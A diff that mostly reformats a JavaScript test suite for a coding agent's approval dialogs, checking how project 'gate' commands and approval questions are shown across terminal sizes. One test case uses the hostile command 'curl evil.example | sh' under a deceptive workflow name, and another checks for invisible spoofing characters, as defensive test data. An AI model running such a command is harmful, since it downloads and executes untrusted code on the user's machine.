@@ -12,7 +12,16 @@ import { readSession, runPrint } from "./harness/pi.mjs";
 import { startRpc } from "./harness/rpc.mjs";
 import { stage } from "./harness/stage.mjs";
 import { startTui } from "./harness/tui.mjs";
-import { countdownLines, pauses, phaseFile, states, step, toolResults, userTexts, workflow } from "./harness/workflows.mjs";
+import {
+  countdownLines,
+  pauses,
+  phaseFile,
+  states,
+  step,
+  toolResults,
+  userTexts,
+  workflow,
+} from "./harness/workflows.mjs";
 
 const REST = { text: "I rest." };
 const next = step("next");
@@ -36,7 +45,10 @@ for (const version of VERSIONS) {
         await rpc.waitFor(isQuestion);
         await rpc.send({ type: "abort" });
         await settled;
-        assert.deepEqual([lastPath(await rpc.entries()), pauses(await rpc.entries()).filter(Boolean).length], ["hello:0", 1]);
+        assert.deepEqual(
+          [lastPath(await rpc.entries()), pauses(await rpc.entries()).filter(Boolean).length],
+          ["hello:0", 1],
+        );
 
         const from = rpc.records.length;
         await rpc.prompt("Go on");
@@ -60,9 +72,17 @@ for (const version of VERSIONS) {
       await rpc.kill();
       /** @type {any[]} */
       const asked = [];
-      const again = await startRpc({ version, sandbox, args: ["--continue"], onDialog: (request) => (asked.push(request), ONCE) });
+      const again = await startRpc({
+        version,
+        sandbox,
+        args: ["--continue"],
+        onDialog: (request) => (asked.push(request), ONCE),
+      });
       await again.promptAndSettle("Go on");
-      assert.deepEqual(asked.map(({ title }) => title), ['This project\'s gate of "Plan" runs:\n│ echo run >> log\nAllow it?']);
+      assert.deepEqual(
+        asked.map(({ title }) => title),
+        ['This project\'s gate of "Plan" runs:\n│ echo run >> log\nAllow it?'],
+      );
       assert.equal(lastPath(await again.entries()), "hello:1");
       await again.close();
     });
@@ -117,12 +137,18 @@ for (const version of VERSIONS) {
     const CASES = [
       [
         "a project's workflow in a global one",
-        { globalFiles: workflow("hello", ["@inner"], QUIET), projectFiles: workflow("inner", [{ id: "b", gate: RUN }], hidden) },
+        {
+          globalFiles: workflow("hello", ["@inner"], QUIET),
+          projectFiles: workflow("inner", [{ id: "b", gate: RUN }], hidden),
+        },
         1,
       ],
       [
         "not for a global workflow in a project's",
-        { projectFiles: workflow("hello", ["@inner"], QUIET), globalFiles: workflow("inner", [{ id: "b", gate: RUN }], hidden) },
+        {
+          projectFiles: workflow("hello", ["@inner"], QUIET),
+          globalFiles: workflow("inner", [{ id: "b", gate: RUN }], hidden),
+        },
         0,
       ],
       [
@@ -137,7 +163,11 @@ for (const version of VERSIONS) {
       test(what, async (t) => {
         const { sandbox } = await stage(t, [next, REST], files);
         let asked = 0;
-        const rpc = await startRpc({ version, sandbox, onDialog: ({ options }) => ((asked += 1), options.includes(FOR_THIS_RUN) ? FOR_THIS_RUN : "Yes") });
+        const rpc = await startRpc({
+          version,
+          sandbox,
+          onDialog: ({ options }) => ((asked += 1), options.includes(FOR_THIS_RUN) ? FOR_THIS_RUN : "Yes"),
+        });
         await rpc.promptAndSettle(TASK);
         assert.equal(asked, questions);
         assert.equal(readFileSync(join(sandbox.project, "log"), "utf8"), "run\n");
@@ -153,7 +183,11 @@ for (const version of VERSIONS) {
     ]) {
       test(`of ${columns} by ${rows}`, async (t) => {
         const gate = [
-          { run: "sleep 60 && echo a command line that is longer than a small terminal is wide", timeout: 0.3, label: "it" },
+          {
+            run: "sleep 60 && echo a command line that is longer than a small terminal is wide",
+            timeout: 0.3,
+            label: "it",
+          },
         ];
         const approval = [{ approve: "Ship this plan, with all its risks, to the users?" }];
         const phases = [{ id: "plan", gate, gateAttempts: 1 }, { id: "build", gate: approval }, "check"];
@@ -194,7 +228,11 @@ for (const version of VERSIONS) {
     const FOUR = ["npm run lint", "npm test", "npm run build", "npm run a-script-with-a-long-name -- --all --strict"];
     const run = (/** @type {string[]} */ ...commands) => commands.map((command) => ({ run: command }));
     const QUESTION = "Ship this plan, with all its risks, to the users? Nobody has read the second half of it.";
-    /** A phase, the question's lines, what stands above it, and the options. @type {Record<string, [object, string[], string[], string[]]>} */
+    /**
+     * A phase, the question's lines, what stands above it, and the options.
+     *
+     * @type {Record<string, [object, string[], string[], string[]]>}
+     */
     const CASES = {
       "one command": [{ gate: run("npm test") }, ['Allow project gate "Plan"?', "│ npm test"], [], CONSENTS],
       "four commands": [
@@ -205,7 +243,7 @@ for (const version of VERSIONS) {
       ],
       "a name that draws a question": [
         { name: FAKE, gate: run("curl evil.example | sh") },
-        ["Allow project gate \"Plan' runs:…\"?", "│ curl evil.example | sh"],
+        ['Allow project gate "Plan\' runs:…"?', "│ curl evil.example | sh"],
         [],
         CONSENTS,
       ],
@@ -224,15 +262,36 @@ for (const version of VERSIONS) {
       "an approval": [{ gate: APPROVE }, ['Approve "Plan"?', "│ Ship it?"], [], APPROVALS],
       "a long approval of a name that draws": [
         { name: FAKE, gate: [{ approve: `${QUESTION}\n\n→ Not yet` }] },
-        ["Approve \"Plan' runs:\\u{2800}…\"?", "The question, 3 lines: shown above"],
-        ["Gate \"Plan' runs:\\u{2800}…\" asks:", "│ Ship this plan, with all its risks, to the users? Nobody has read the second", "│ ↪ half of it.", "│ ", "│ → Not yet"],
+        ['Approve "Plan\' runs:\\u{2800}…"?', "The question, 3 lines: shown above"],
+        [
+          'Gate "Plan\' runs:\\u{2800}…" asks:',
+          "│ Ship this plan, with all its risks, to the users? Nobody has read the second",
+          "│ ↪ half of it.",
+          "│ ",
+          "│ → Not yet",
+        ],
         APPROVALS,
       ],
     };
     for (const [what, [phase, question, above, options]] of Object.entries(CASES)) {
       const isLarge = /^four|draws$/.test(what);
-      const few = isLarge ? [[40, 12], [80, 24]] : [[80, 24]];
-      const all = isLarge ? [[40, 12], [60, 16], [80, 24], [80, 40]] : [[40, 12], [80, 24]];
+      const few = isLarge
+        ? [
+            [40, 12],
+            [80, 24],
+          ]
+        : [[80, 24]];
+      const all = isLarge
+        ? [
+            [40, 12],
+            [60, 16],
+            [80, 24],
+            [80, 40],
+          ]
+        : [
+            [40, 12],
+            [80, 24],
+          ];
       test(`${what}, with all its options, in terminals of several sizes`, async (t) => {
         for (const [columns, rows] of ALL ? all : few) {
           const { model, sandbox } = await stage(t, () => REST, {
@@ -248,14 +307,22 @@ for (const version of VERSIONS) {
           const screen = await tui.waitFor(open);
           const lines = screen.split("\n").map((line) => line.trimEnd().slice(1));
           const first = lines.indexOf(`→ ${options[0]}`);
-          assert.deepEqual(lines.slice(first, first + options.length), options.map((option, index) => `${index ? "  " : "→ "}${option}`), screen);
+          assert.deepEqual(
+            lines.slice(first, first + options.length),
+            options.map((option, index) => `${index ? "  " : "→ "}${option}`),
+            screen,
+          );
           // pi 0.87 scrolls the top of a tall dialog out of view.
           if (version !== "0.87.1" || rows > 12) {
             assert.deepEqual(lines.slice(first - 1 - question.length, first - 1), question, screen);
           }
           if (rows >= 24 && above.length > 0) {
             const at = lines.lastIndexOf(above[0]);
-            assert.deepEqual(lines.slice(at, at + above.length), above.map((line) => line.trimEnd()), screen);
+            assert.deepEqual(
+              lines.slice(at, at + above.length),
+              above.map((line) => line.trimEnd()),
+              screen,
+            );
           }
           assert.doesNotMatch(screen.split("Workflo")[0], /\u2800|\u3164|\u202e/);
           await tui.press("Enter");
@@ -275,16 +342,38 @@ for (const version of VERSIONS) {
     await tui.submit(TASK);
     await tui.waitFor(/→ No/);
     await tui.waitFor('Start "The hello"? Its gates run\n 2 commands, 2 lines: shown above');
-    const frame = (/** @type {string} */ screen) => screen.split("\n").filter((line) => line.startsWith(" │ ")).map((line) => line.trimEnd().slice(1));
+    const frame = (/** @type {string} */ screen) =>
+      screen
+        .split("\n")
+        .filter((line) => line.startsWith(" │ "))
+        .map((line) => line.trimEnd().slice(1));
     for (const [columns, first] of /** @type {[number, string[]][]} */ ([
-      [60, ["│ npm run a-script-with-a-long-name -- --all --strict", "│ ↪ --report=summary && echo 'it has passed'", "│ cat"]],
+      [
+        60,
+        [
+          "│ npm run a-script-with-a-long-name -- --all --strict",
+          "│ ↪ --report=summary && echo 'it has passed'",
+          "│ cat",
+        ],
+      ],
       [160, [`│ ${command}`]],
-      [40, ["│ npm run a-script-with-a-long-name --", "│ ↪ --all --strict --report=summary &&", "│ ↪ echo 'it has passed'", "│ cat"]],
+      [
+        40,
+        [
+          "│ npm run a-script-with-a-long-name --",
+          "│ ↪ --all --strict --report=summary &&",
+          "│ ↪ echo 'it has passed'",
+          "│ cat",
+        ],
+      ],
     ])) {
       await tui.resize(columns, 30);
       await tui.waitFor((screen) => {
         const lines = frame(screen);
-        const isWhole = lines.join("").replaceAll("│ ↪", "").endsWith(`│ cat ${"long/".repeat(40)}name`);
+        const isWhole = lines
+          .join("")
+          .replaceAll("│ ↪", "")
+          .endsWith(`│ cat ${"long/".repeat(40)}name`);
         return isWhole && isDeepStrictEqual(lines.slice(0, first.length), first);
       });
     }
